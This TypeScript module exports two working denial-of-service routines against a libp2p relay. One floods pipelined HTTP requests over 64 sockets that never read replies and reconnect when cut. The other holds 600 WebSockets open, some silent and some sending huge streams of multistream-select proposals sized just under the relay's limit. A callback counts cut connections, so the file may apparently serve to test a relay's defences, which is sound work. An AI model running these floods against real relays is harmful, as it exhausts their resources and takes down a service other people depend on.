import { once } from 'node:events';
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { multiaddr } from '@multiformats/multiaddr';
import { multiaddrToUri } from '@multiformats/multiaddr-to-uri';
import { WebSocket } from 'ws';
import { withoutEnd } from './attack.ts';
import type { Attack } from './attack.ts';

/** Sockets that ask for pages, and those that begin handshakes: more than a relay upgrades at once. */
const ASKING = 64;
const HALF_DONE = 600;

const REQUESTS = Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(500));
/** Proposals of multistream-select, `a` each, in one frame just below what a relay takes. */
const PROPOSAL = [2, 0x61, 0x0a];
const PROPOSALS = Buffer.from(Array.from({ length: 340_000 }, () => PROPOSAL).flat());

const urlOf = (relay: string): string => multiaddrToUri(multiaddr(relay.replace(/\/p2p\/.*$/, '')));

const written = (socket: Socket): Promise<void> =>
  new Promise((resolve, reject) => {
    socket.write(REQUESTS, (error) => {
      if (error) reject(error);
      else resolve();
    });
  });

/** Sends requests without end and reads no answer, over a new socket whenever the last one was cut. */
export const unreadAnswers: Attack = ({ relay }, onCut) => {
  const { hostname, port } = new URL(urlOf(relay));
  return withoutEnd(ASKING, async () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.pause();
    await once(socket, 'connect');
    try {
      for (;;) await written(socket);
    } catch {
      onCut();
    } finally {
      socket.destroy();
    }
  });
};

/** Opens WebSockets, and then says nothing, or proposes protocols without end. */
export const halfHandshakes: Attack = ({ relay }, onCut) => {
  const url = urlOf(relay);
  let opened = 0;
  return withoutEnd(HALF_DONE, async () => {
    const socket = new WebSocket(url, { perMessageDeflate: false });
    const closed = new Promise((resolve) => socket.on('close', resolve));
    await once(socket, 'open');
    socket.on('error', () => undefined);
    opened += 1;
    if (opened % 2 === 0) socket.send(PROPOSALS);
    await closed;
    onCut();
  });
};
